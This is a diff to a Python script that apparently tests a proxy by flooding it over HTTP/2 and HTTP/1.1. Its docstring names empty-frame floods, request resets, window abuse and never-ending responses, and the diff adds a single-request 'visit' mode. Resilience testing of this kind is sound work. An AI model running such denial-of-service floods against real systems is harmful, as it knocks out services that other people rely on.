@@ -3,7 +3,8 @@
 
 Each thread opens connections to the host of a secret through the proxy and sends, in turn, floods
 of HTTP/2 frames that carry nothing, requests that it resets, windows that it opens and answers that
-it never reads; or it asks over HTTP/1.1 for answers without an end.
+it never reads; or it asks over HTTP/1.1 for answers without an end. Without threads it asks once
+over both, and fails if it gets no answer.
 """
 
 from __future__ import annotations
@@ -87,7 +88,20 @@ def attack(host: str, first: int) -> None:
         time.sleep(0.02)
 
 
+def visit(host: str) -> None:
+    """Ask once over each protocol: the proxy then has what it keeps for all environments."""
+    heads = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 5, 1, request(host))
+    with connected(host, "h2") as line:
+        line.sendall(heads)
+        line.recv(1)
+    with connected(host, "http/1.1") as line:
+        line.sendall(f"GET /slow HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+        line.recv(1)
+
+
 def main(host: str, threads: int) -> None:
+    if not threads:
+        visit(host)
     for number in range(threads):
         threading.Thread(target=attack, args=(host, number)).start()
 
